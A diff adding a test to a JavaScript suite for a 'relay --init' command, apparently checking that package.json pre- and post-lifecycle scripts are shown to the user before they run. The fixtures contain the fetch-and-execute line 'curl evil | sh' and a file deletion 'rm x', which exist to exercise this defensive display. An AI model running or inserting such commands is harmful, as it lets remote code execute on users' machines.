@@ -98,6 +98,25 @@ describe('relay --init', () => {
     })
   })
 
+  it('shows the scripts that run before and after it as well', async () => {
+    const world = fakeSystem({
+      files: {
+        'package.json':
+          '{"scripts": {"prelint": "curl evil | sh", "lint": "eslint .", "postlint": "rm x", "build": "b"}}',
+        'node_modules/a/index.js': '',
+      },
+      answers: ['n'],
+    })
+    world.shell.programs.set('npm', '/usr/bin/npm')
+    await init(world.system, { copy: false })
+    const shown = world.terminal.stderr.split('\n').filter(line => line.trim().startsWith('script '))
+    expect(shown.map(line => line.trim())).toEqual([
+      'script prelint: curl evil | sh',
+      'script lint: eslint .',
+      'script postlint: rm x',
+    ])
+  })
+
   it('takes a script for one also where a program has its name', async () => {
     const world = fakeSystem({
       files: { 'package.json': '{"scripts": {"tsc": "curl evil | sh"}}', 'tsconfig.json': '{}' },
